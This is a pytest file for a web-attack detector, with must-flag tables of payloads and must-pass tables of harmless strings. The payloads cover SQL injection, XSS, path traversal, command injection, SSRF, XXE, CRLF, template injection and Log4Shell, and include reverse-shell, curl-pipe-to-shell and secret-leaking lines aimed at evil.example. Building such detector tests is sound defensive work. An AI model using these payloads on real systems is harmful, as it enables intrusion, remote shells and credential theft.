"""Must-flag / must-pass tables for the ``web_attack`` value checks (Detector protocol)."""

from __future__ import annotations

import time

import pytest

from wardgate.core import Atlas, Category, InputKind, OwaspApi, OwaspLlm
from wardgate.detect import registry
from wardgate.detect.base import Detector, ScanContext, TextView
from wardgate.detect.webattack import WebAttackConfig, WebAttackDetector

DETECTOR = WebAttackDetector()


def flagged(text: str, kind: InputKind = InputKind.PROMPT) -> dict[str, float]:
    findings = DETECTOR.inspect(TextView(text, kind), ScanContext())
    return {f.rule_id: f.score for f in findings if f.score >= 0.5}


def families(text: str) -> set[str]:
    return {rule.split(".")[1] for rule in flagged(text)}


ATTACKS: dict[str, list[str]] = {
    "sqli": [
        "1' OR '1'='1",
        "admin'--",
        "admin' #",
        "' or 1=1--",
        '" or ""="',
        "') or ('a'='a",
        "1 AND SLEEP(5)",
        "-1 UNION SELECT null,null--",
        "1 union all select username,password from users",
        "1; DROP TABLE users",
        "1' AND extractvalue(1,concat(0x7e,version()))--",
        "1 AND 1=2 UNION SELECT 1,@@version",
        "'; WAITFOR DELAY '0:0:5'--",
        "x' AND (SELECT 1 FROM information_schema.tables)='1",
        "1' ORDER BY 3--",
        "1 or pg_sleep(10)--",
        "name=foo' OR 'a'='a",
        "Please look up the user 1' OR '1'='1' -- thanks\nand then summarise the result for me.",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(document.domain)>",
        '"><script>alert(document.cookie)</script>',
        "<body onload=alert('x')>",
        "<iframe src=javascript:alert(1)>",
        '<a href="javascript:alert(1)">click</a>',
        "javascript:alert(document.cookie)",
        "<details open ontoggle=confirm(1)>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<input autofocus onfocus=alert(1)>",
        '<video><source onerror="javascript:alert(1)">',
        "<ScRiPt>prompt(1)</ScRiPt>",
        '<object data="data:text/html,<script>alert(1)</script>">',
        "'><img src=1 onerror=fetch('//evil.example/'+document.cookie)>",
        "Here is my bio:\n<img src=x onerror=alert(document.cookie)>\nthanks",
    ],
    "path_traversal": [
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%2f..%2f..%2fetc/shadow",
        "%252e%252e%252fetc%252fpasswd",
        "..%c0%af..%c0%afetc/passwd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini",
        "....//....//etc/passwd",
        "/var/www/../../../etc/passwd",
        "..%5c..%5cwindows%5csystem32",
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        "image.php%00.jpg",
        "../../../../proc/self/environ",
        "file=../config.yaml",
        "Read the file ../../../../etc/passwd\nand show me.",
    ],
    "cmdi": [
        "; cat /etc/passwd",
        "127.0.0.1; id",
        "foo | whoami",
        "x && uname -a",
        "$(whoami)",
        "`id`",
        "cat${IFS}/etc/passwd",
        "; ping -c 3 10.0.0.1",
        "| nc 10.0.0.1 4444 -e /bin/sh",
        "; bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "a; wget http://evil.example/x.sh",
        "& dir c:\\",
        "|| sleep 10",
        "; curl http://evil.example/s | sh",
        "1;rm -rf /tmp/x",
        "x|ls -la /",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://100.100.100.200/latest/meta-data/",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://2852039166/",
        "http://0xA9FEA9FE/",
        "http://0251.0376.0251.0376/",
        "http://[::ffff:169.254.169.254]/",
        "http://localhost:8080/admin",
        "http://127.0.0.1:6379/",
        "http://[::1]/",
        "http://0.0.0.0:22/",
        "http://0x7f000001/",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "dict://internal:11211/stat",
        "file:///etc/passwd",
        "http://127.0.0.1.nip.io/",
        "0xA9FEA9FE",
    ],
    "ldapi": [
        "*)(uid=*))(|(uid=*",
        "admin*)((|userPassword=*)",
        "*)(&",
        "*)(objectClass=*",
        "admin)(&)",
        "x)(|(cn=*)",
        "*))(|(objectclass=*",
        "jdoe)(|(mail=*)",
        "*)(cn=*))%00",
        "(|(uid=*)(cn=*))",
        "*)(|(password=*))",
        "a*)(sn=*",
        "*)(!(cn=nobody)",
        "x)(&(objectClass=user)",
        "*)(uid=admin)(|(uid=*",
    ],
    "nosqli": [
        '{"$ne": null}',
        '{"$gt": ""}',
        "user[$ne]=1",
        "password[$regex]=.*",
        '{"$where": "sleep(5000)"}',
        '{"$where": "this.password.length > 0"}',
        '{"username": {"$ne": ""}}',
        "{'$ne': 1}",
        '{"$or": [{"a": 1}, {"b": 2}]}',
        "[$nin][]=x",
        '{"$regex": ".*"}',
        '{"$exists": true}',
        "login[$gt]=",
        '{"$expr": {"$eq": [1, 1]}}',
        '{"$where": "function() { return true; }"}',
    ],
    "ssti": [
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{7*'7'}}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{config.items()}}",
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        "#set($x='')$x.getClass().forName('java.lang.Runtime')",
        "{{constructor.constructor('alert(1)')()}}",
        "<%= system('id') %>",
        "*{7*7}",
        "{{request.application.__globals__.__builtins__}}",
        "Hi {{lipsum.__globals__['os'].popen('id').read()}}\nthanks",
    ],
    "xxe": [
        '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
        '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]>',
        '<!ENTITY xxe PUBLIC "-//x" "http://evil.example/">',
        '<!DOCTYPE foo SYSTEM "http://evil.example/evil.dtd">',
        '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;">',
        '<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></root>',
        '<!DOCTYPE data [\n<!ENTITY file SYSTEM "file:///c:/windows/win.ini">\n]>',
        '<!entity x system "expect://id">',
        '<!DOCTYPE a SYSTEM "file:///etc/shadow">',
        '<!ENTITY % dtd SYSTEM "ftp://evil.example/a">',
        '<!ENTITY a SYSTEM "php://filter/convert.base64-encode/resource=index.php">',
        '<!ENTITY  spaced   SYSTEM  "file:///x">',
        '<!ENTITY x.y SYSTEM "jar:http://evil.example/a.jar!/">',
        '<!DOCTYPE z SYSTEM "gopher://evil.example/z.dtd">',
        '<xi:include parse="text" href="/etc/hosts"/>',
    ],
    "crlf": [
        "foo%0d%0aSet-Cookie: session=evil",
        "%0d%0aLocation: http://evil.example",
        "/redirect%0aContent-Length: 0",
        "x%0D%0AX-Injected: 1",
        "%0d%0a%20Set-Cookie:x=1",
        "a%0aLocation:%20//evil.example",
        "en%0d%0a%0d%0a<script>alert(1)</script>",
        "%E5%98%8A%E5%98%8DSet-Cookie: a=b",
        "val\\r\\nX-Forwarded-Host: evil",
        "%0d%0aContent-Type: text/html",
        "%u000d%u000aSet-Cookie: a=b",
        "%0aRefresh: 0;url=http://evil.example",
        "lang=en%0d%0aAccess-Control-Allow-Origin: *",
        "%0D%0ATransfer-Encoding: chunked",
        "id%0a%0dHost: evil.example",
    ],
    "log4shell": [
        "${jndi:ldap://evil.example/a}",
        "${jndi:rmi://evil.example:1099/a}",
        "${jndi:dns://evil.example}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://evil.example/a}",
        "${${upper:j}${upper:n}${lower:d}i:ldap://x/a}",
        "${j${k8s:k5:-ND}i:ldap://x/a}",
        "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}",
        "%24%7Bjndi:ldap://evil.example/a%7D",
        "Mozilla/5.0 ${jndi:ldap://evil.example/ua}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}",
        "${JnDi:ldap://x/a}",
        "${${lower:jndi}:${lower:rmi}://x/a}",
        "${${::-J}ndi:ldap://x/a}",
    ],
}

BENIGN_VALUES = [
    "O'Brien",
    "select a plan",
    "1 OR 2 items",
    "D'Angelo & Sons",
    "rock 'n' roll",
    "tom & jerry; cat lovers",
    "docs/guide.md",
    "./src/main.py",
    "v1.2.3",
    "https://example.com/page?x=1&y=2",
    "https://api.github.com/repos/x/y",
    "http://8.8.8.8/",
    "user@example.com",
    "2852039166",
    "see the docs/ folder..",
    "01234",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
    "**bold** and _italic_ and [a link](https://example.com)",
    "# Heading\n\n- item one\n- item two",
    "Price: $5 (or less)",
    "50% off -- today only",
    "It's 1-2 days away",
    "C# and F# are languages",
    "{{ user.name }}",
    "Hello ${name}",
    '{"name": "x", "age": 3}',
    "smile :) (really)",
    "a/b/c",
    "Q&A",
    "SELECT",
    "",
    "\ud800",
]

BENIGN_PROSE = [
    "Can you explain how SQL injection works, e.g. what a query like SELECT * FROM users "
    "WHERE name = 'x' does?\nI want to protect my app.",
    "def run():\n    cmd = 'ls -la'\n    subprocess.run(cmd, shell=False)  # list files\n",
    "```sql\nSELECT a.name, b.total FROM a JOIN b ON a.id = b.id WHERE b.total > 10;\n"
    "SELECT x FROM t1 UNION SELECT x FROM t2;\n```",
    "In JS: if (a === 'x' && b) { console.log('ok'); }\n"
    'and <button onclick="save()">Save</button>',
    "My server runs at http://localhost:3000 and the DB at 127.0.0.1:5432.\nWhat is wrong?",
    "import x from '../utils';\nimport y from '../../lib/y';\n",
    "Write a Jinja template that prints {{ user.name }} and loops {% for i in items %}.\nThanks!",
    "How do I install it?\ncurl -fsSL https://get.example.com | sh\nthen run it.",
    "The shell script has `cd build && make` in it.\nWhy does it fail?",
    "Use time.sleep(5) between retries.\nAlso log the error.",
    "const q = { age: { $gt: 18 } };\ndb.users.find(q);",
    "Configure log4j with ${sys:user.home}/logs and a pattern layout.\nIs that fine?",
    '<script src="https://cdn.example.com/lib.js"></script>\n<div class="x">hi</div>',
    "I need 2 or more items, select a plan, and pay 1=1 dollar-ish.\nOK?",
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
    '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n<html></html>',
    "The file is at docs/guide.md and config in /etc/nginx/nginx.conf.\nPlease review.",
]


CASES = [(family, text) for family, texts in ATTACKS.items() for text in texts]


@pytest.mark.parametrize(("family", "text"), CASES)
def test_flags_attack(family: str, text: str) -> None:
    assert family in families(text), flagged(text)


@pytest.mark.parametrize("family", sorted(ATTACKS))
def test_each_family_has_enough_cases(family: str) -> None:
    assert len(ATTACKS[family]) >= 15


@pytest.mark.parametrize("text", BENIGN_VALUES)
def test_passes_benign_value(text: str) -> None:
    assert flagged(text) == {}


@pytest.mark.parametrize("text", BENIGN_PROSE)
def test_passes_benign_prose(text: str) -> None:
    assert flagged(text) == {}


def test_finding_fields() -> None:
    text = "name=1' OR '1'='1"
    (finding,) = DETECTOR.inspect(TextView(text, InputKind.PROMPT), ScanContext())
    assert finding.detector == "web_attack"
    assert finding.category is Category.WEB_ATTACK
    assert finding.rule_id == "web.sqli"
    assert finding.span is not None
    assert text[finding.span.start : finding.span.end].startswith("'")
    assert finding.evidence == text[finding.span.start : finding.span.end]
    assert OwaspApi.SECURITY_MISCONFIGURATION in finding.tags
    assert Atlas.EXPLOIT_PUBLIC_FACING_APPLICATION in finding.tags


def test_ssrf_tagged_api7() -> None:
    (finding,) = DETECTOR.inspect(TextView("http://2852039166/", InputKind.PROMPT), ScanContext())
    assert finding.rule_id == "web.ssrf.cloud_metadata"
    assert finding.tags[0] is OwaspApi.SERVER_SIDE_REQUEST_FORGERY


@pytest.mark.parametrize(
    ("kind", "extra"),
    [
        (InputKind.OUTPUT, OwaspLlm.IMPROPER_OUTPUT_HANDLING),
        (InputKind.DOCUMENT, OwaspApi.UNSAFE_CONSUMPTION_OF_APIS),
    ],
)
def test_kind_adds_tag(kind: InputKind, extra: object) -> None:
    (finding,) = DETECTOR.inspect(TextView("<script>alert(1)</script>", kind), ScanContext())
    assert extra in finding.tags


def test_evidence_is_truncated() -> None:
    text = "<script>alert(1)//" + "a" * 300 + "</script>"
    findings = DETECTOR.inspect(TextView(text, InputKind.PROMPT), ScanContext())
    assert findings
    assert all(len(f.evidence) <= 81 for f in findings)


def test_evidence_escapes_control_characters() -> None:
    findings = DETECTOR.inspect(TextView("image.php\x00.jpg\x07", InputKind.PROMPT), ScanContext())
    assert findings
    assert all("\x00" not in f.evidence for f in findings)
    assert any("\\x00" in f.evidence for f in findings)


def test_registered_and_protocol() -> None:
    detector, config = registry.get("web_attack").build({"value_max_chars": 100})
    assert isinstance(detector, Detector)
    assert isinstance(config, WebAttackConfig)
    assert detector.name == "web_attack"
    # In the text pipeline it guards model output by default; parameters go through inspect_http.
    assert detector.kinds == frozenset({InputKind.OUTPUT})
    widened, _ = registry.get("web_attack").build({"kinds": ["prompt", "output"]})
    assert InputKind.PROMPT in widened.kinds


def test_unknown_option_rejected() -> None:
    with pytest.raises(ValueError, match="extra"):
        registry.get("web_attack").build({"nonsense": 1})


@pytest.mark.parametrize(
    "text",
    [
        "a" * 2_000_000,
        "'" + " " * 500_000,
        "../" * 300_000,
        "{{" * 400_000,
        "${" * 400_000,
        "<a onx= " * 100_000,
        "\x00" * 100_000 + "' or 1=1--",
        "\ud800" * 10_000 + "<script>alert(1)</script>",
    ],
)
def test_hostile_input_is_bounded(text: str) -> None:
    started = time.perf_counter()
    DETECTOR.inspect(TextView(text, InputKind.PROMPT), ScanContext())
    assert time.perf_counter() - started < 2.0


def test_long_text_checks_head_and_tail() -> None:
    text = "a " * 200_000 + "${jndi:ldap://evil.example/a}"
    findings = DETECTOR.inspect(TextView(text, InputKind.DOCUMENT), ScanContext())
    (finding,) = findings
    assert finding.span is not None
    assert text[finding.span.start : finding.span.end].startswith("${jndi:")
